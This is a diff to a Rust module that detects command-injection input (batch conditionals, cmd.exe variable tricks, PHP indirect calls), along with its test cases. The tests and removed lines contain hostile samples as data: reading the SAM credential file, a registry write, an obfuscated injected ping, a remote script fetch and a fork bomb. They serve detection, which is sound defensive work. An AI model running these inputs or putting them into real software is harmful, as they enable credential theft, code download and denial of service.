@@ -6,70 +6,8 @@
 //! `PowerShell`; RFC 5321 and RFC 9051 for mail commands.
 
 use super::evidence::{Evidence, Strongest, Texture};
-use crate::text::cursor::{Cursor, find_ci, is_word, starts_with_ci};
-use crate::text::words::{Words, words};
-
-/// Nouns of cmdlets, behind a verb and a hyphen.
-static NOUNS: Words<(), 256> = Words::new(&[
-    ("webrequest", ()),
-    ("restmethod", ()),
-    ("expression", ()),
-    ("command", ()),
-    ("item", ()),
-    ("itemproperty", ()),
-    ("childitem", ()),
-    ("content", ()),
-    ("process", ()),
-    ("service", ()),
-    ("wmimethod", ()),
-    ("wmiobject", ()),
-    ("ciminstance", ()),
-    ("cimmethod", ()),
-    ("object", ()),
-    ("location", ()),
-    ("variable", ()),
-    ("alias", ()),
-    ("module", ()),
-    ("psdrive", ()),
-    ("pssession", ()),
-    ("psremoting", ()),
-    ("executionpolicy", ()),
-    ("acl", ()),
-    ("credential", ()),
-    ("computer", ()),
-    ("eventlog", ()),
-    ("hotfix", ()),
-    ("job", ()),
-    ("member", ()),
-    ("scheduledtask", ()),
-    ("securestring", ()),
-    ("csv", ()),
-    ("clixml", ()),
-    ("host", ()),
-    ("output", ()),
-    ("string", ()),
-    ("null", ()),
-    ("file", ()),
-    ("connection", ()),
-    ("path", ()),
-    ("sleep", ()),
-    ("date", ()),
-    ("culture", ()),
-    ("history", ()),
-    ("localuser", ()),
-    ("localgroup", ()),
-    ("netipaddress", ()),
-    ("nettcpconnection", ()),
-    ("type", ()),
-    ("webserviceproxy", ()),
-    ("bitstransfer", ()),
-]);
-
-/// Verbs that start something, and those that prose also puts before a hyphen.
-const VERBS: [&[u8]; 12] = [
-    b"invoke", b"set", b"get", b"new", b"start", b"stop", b"remove", b"out", b"import", b"export",
-    b"write", b"expand",
-];
+use crate::text::cursor::{Cursor, find_ci, is_word, places, starts_with_ci};
+use crate::text::words::words;
 
 /// The strongest evidence in `text`.
 pub(crate) fn find_in(text: &[u8], texture: Texture) -> Option<Evidence> {
@@ -82,16 +20,16 @@ pub(crate) fn find_in(text: &[u8], texture: Texture) -> Option<Evidence> {
     if let Some(score) = batch(text) {
         add("shield.rce.command", score, 0, text.len());
     }
-    if let Some((start, end)) = cmdlet(text) {
-        add("shield.rce.command", 7500, start, end);
-    }
     if let Some((start, end)) = administration(text) {
         add("shield.rce.command", 7500, start, end);
     }
-    if has(b'{')
-        && let Some(at) = bomb(text)
-    {
-        add("shield.rce.command", 8500, at, text.len());
+    if has(b'%') {
+        if let Some(at) = part_of_variable(text) {
+            add("shield.rce.command", 8000, at, text.len());
+        }
+        if let Some(at) = loops(text) {
+            add("shield.rce.command", 7000, at, text.len());
+        }
     }
     if has(b'$')
         && let Some((start, end)) = indirect(text)
@@ -104,7 +42,7 @@ pub(crate) fn find_in(text: &[u8], texture: Texture) -> Option<Evidence> {
     best.0
 }
 
-/// `if %x% equ 1 …`, `for %a in (…) do …`
+/// `if %x% equ 1 …`, `if exist c:\\x …`
 fn batch(text: &[u8]) -> Option<u16> {
     let head = text.trim_ascii_start();
     let head = head
@@ -112,72 +50,81 @@ fn batch(text: &[u8]) -> Option<u16> {
         .or_else(|| head.strip_prefix(b"|"))
         .unwrap_or(head)
         .trim_ascii_start();
-    let conditional = starts_with_ci(head, b"if ");
-    if !conditional && !starts_with_ci(head, b"for ") {
+    if !starts_with_ci(head, b"if ") {
         return None;
     }
-    let percent = head.contains(&b'%');
-    let mut operators = 0_u8;
-    for (_, word) in words(head).take(40).skip(1) {
+    let (mut compares, mut asks) = (false, false);
+    for (_, word) in words(head).take(12).skip(1) {
         let says = |list: &[&[u8]]| list.iter().any(|w| word.eq_ignore_ascii_case(w));
-        if conditional
-            && says(&[
-                b"errorlevel",
-                b"defined",
-                b"exist",
-                b"equ",
-                b"neq",
-                b"lss",
-                b"leq",
-                b"gtr",
-                b"geq",
-                b"goto",
-                b"cmdextversion",
-            ])
-        {
-            operators = operators.saturating_add(1);
-        }
-        if !conditional && says(&[b"in", b"do"]) {
-            operators = operators.saturating_add(1);
-        }
+        compares |= says(&[
+            b"equ",
+            b"neq",
+            b"lss",
+            b"leq",
+            b"gtr",
+            b"geq",
+            b"errorlevel",
+            b"cmdextversion",
+        ]);
+        asks |= says(&[b"exist", b"defined"]);
     }
-    let compares = conditional && find_ci(head, b"==").is_some() && percent;
-    match (conditional, operators, percent, compares) {
-        (true, _, _, true) => Some(7000),
-        (true, 2.., _, _) | (true, 1.., true, _) | (false, 2.., true, _) => Some(7500),
-        (true, 1, false, _) if words(head).count() <= 8 => Some(5500),
+    let variable = has_variable(head);
+    let drive = find_ci(head, b":\\").is_some();
+    let equal = find_ci(head, b"==").is_some() && (variable || starts_with_ci(head, b"if /i"));
+    match (compares, asks, equal) {
+        (true, ..) => Some(7000),
+        (_, true, _) if variable || drive => Some(7000),
+        (_, true, _) if head.starts_with(b"IF ") => Some(6000),
+        (_, _, true) => Some(7000),
         _ => None,
     }
 }
 
-/// `Invoke-WebRequest`, `iwr http`, `iex (`
-fn cmdlet(text: &[u8]) -> Option<(usize, usize)> {
-    let mut before: (usize, &[u8]) = (0, &[]);
-    for (start, word) in words(text) {
-        let hyphen = start.checked_sub(1) == Some(before.0.saturating_add(before.1.len()))
-            && start.checked_sub(1).and_then(|at| text.get(at)) == Some(&b'-');
-        if hyphen
-            && VERBS.iter().any(|verb| before.1.eq_ignore_ascii_case(verb))
-            && NOUNS.get(word).is_some()
-            && word.len() >= 7
-        {
-            return Some((before.0, start.saturating_add(word.len())));
+/// `%x%` or `%%x`, and no format of `printf`.
+fn has_variable(text: &[u8]) -> bool {
+    let mut cursor = Cursor::new(text);
+    while !cursor.done() {
+        cursor.take_until(b'%');
+        cursor.skip(1);
+        let double = cursor.eat(b'%');
+        let name = cursor.take_while(is_word);
+        let upper = name.len() > 1 && !name.iter().any(u8::is_ascii_lowercase);
+        // `{%1}` and `"a%1"`, not `x % 1`
+        let place = matches!(name, [digit] if digit.is_ascii_digit())
+            && matches!(cursor.peek(), Some(b'}' | b'"' | b'\'' | b'=' | b']'));
+        if place {
+            return true;
         }
-        let end = start.saturating_add(word.len());
-        if [&b"iwr"[..], b"iex", b"irm", b"iwmi"]
-            .iter()
-            .any(|w| word.eq_ignore_ascii_case(w))
-        {
-            let rest = text.get(end..).unwrap_or_default().trim_ascii_start();
-            if starts_with_ci(rest, b"http")
-                || matches!(rest.first(), Some(b'(' | b'-' | b'$' | b'"'))
-            {
-                return Some((start, end));
-            }
+        let closed = cursor.peek() == Some(b'%');
+        let compared = closed && cursor.peek_nth(1) == Some(b'=');
+        if !name.is_empty() && (double || compared || (upper && closed)) {
+            return true;
         }
-        before = (start, word);
     }
-    None
+    false
+}
+
+/// `%PROGRAMFILES:~10,-5%`
+fn part_of_variable(text: &[u8]) -> Option<usize> {
+    places(text, b":~").take(8).find(|at| {
+        let before = text.get(..*at).unwrap_or_default();
+        let name = before.iter().rev().take_while(|b| is_word(**b)).count();
+        let percent = before.len().checked_sub(name.saturating_add(1));
+        let behind = text.get(at.saturating_add(2)..).unwrap_or_default();
+        name > 0
+            && percent.and_then(|at| before.get(at)) == Some(&b'%')
+            && behind
+                .first()
+                .is_some_and(|b| b.is_ascii_digit() || *b == b'-')
+    })
+}
+
+/// `for %x in (…) do …` of `cmd.exe` as the whole of a value.
+fn loops(text: &[u8]) -> Option<usize> {
+    let head = text.get(..text.len().min(160)).unwrap_or_default();
+    let has = |needle| find_ci(head, needle).is_some();
+    let start = find_ci(head, b"for ").filter(|start| *start < 4)?;
+    ((has(b" in (") || has(b" in(")) && has(b"do ")).then_some(start)
 }
 
 /// `net user`, `reg add HKLM`, `type c:\…`, `dir c:\`
@@ -251,7 +198,8 @@ fn administration(text: &[u8]) -> Option<(usize, usize)> {
             let blanks = cursor.take_while(|b| matches!(b, b' ' | b'\t' | b'+' | b'|' | b'"'));
             let rest = cursor.rest();
             let windows = matches!(rest, [d, b':', b'\\' | b'/', ..] if d.is_ascii_alphabetic())
-                || (rest.starts_with(b"%") && rest.get(1).is_some_and(u8::is_ascii_alphabetic));
+                || (rest.starts_with(b"%")
+                    && has_variable(rest.get(..rest.len().min(40)).unwrap_or_default()));
             if !blanks.is_empty() && windows {
                 return Some((start, cursor.at()));
             }
@@ -259,23 +207,6 @@ fn administration(text: &[u8]) -> Option<(usize, usize)> {
         before = (start, word);
     }
     None
-}
-
-/// `:(){ :|:& };:`
-fn bomb(text: &[u8]) -> Option<usize> {
-    let at = find_ci(text, b"()")?;
-    let rest = text.get(at.saturating_add(2)..)?.trim_ascii_start();
-    let body = rest.strip_prefix(b"{")?;
-    let end = body.iter().position(|b| *b == b'}')?;
-    let inside = body.get(..end)?;
-    let name_at = text
-        .get(..at)?
-        .iter()
-        .rposition(|b| !(is_word(*b) || *b == b':'))
-        .map_or(0, |n| n.saturating_add(1));
-    let name = text.get(name_at..at)?;
-    let again = !name.is_empty() && find_ci(inside, name).is_some();
-    (again && inside.contains(&b'&')).then_some(name_at)
 }
 
 /// `$a['x'](…)`, `$$x(…)`: a PHP function by the value of a variable.
@@ -297,7 +228,9 @@ fn indirect(text: &[u8]) -> Option<(usize, usize)> {
         }
         indexed = true;
     }
-    gap(&mut cursor);
+    if start == 0 {
+        gap(&mut cursor);
+    }
     (indexed && cursor.peek() == Some(b'(')).then(|| (start, cursor.at()))
 }
 
@@ -373,14 +306,12 @@ mod tests {
     fn commands_and_sentences() {
         for text in [
             "IF %ERRORLEVEL% NEQ 0 echo x",
-            "FOR /L %%G IN (1,1,5) DO echo %%G",
-            ";iwr http://e.example/x.ps1",
-            "Invoke-WebRequest http://e.example/x.ps1",
             "net view",
+            "FOR /L %%G IN (1,1,5) DO echo %%G",
+            "ping%PROGRAMFILES:~10,-5%127.0.0.1",
             "&& reg add \"HKLM\\x\" /v y",
             "type C:\\WINNT\\repair\\SAM",
             "| dir c:\\",
-            "f(){ f|f& };f",
             "$x['a'](1)",
             "x\r\nRCPT TO:<a@example.com>",
         ] {
@@ -389,6 +320,9 @@ mod tests {
         for text in [
             "if you like 10% off",
             "for sale in Paris, do call",
+            "if (defined $x) {",
+            "if x % 2 == 0 and y:",
+            "Invalid type %r for option",
             "the net user count is up",
             "get-started with us",
             "sleep well",
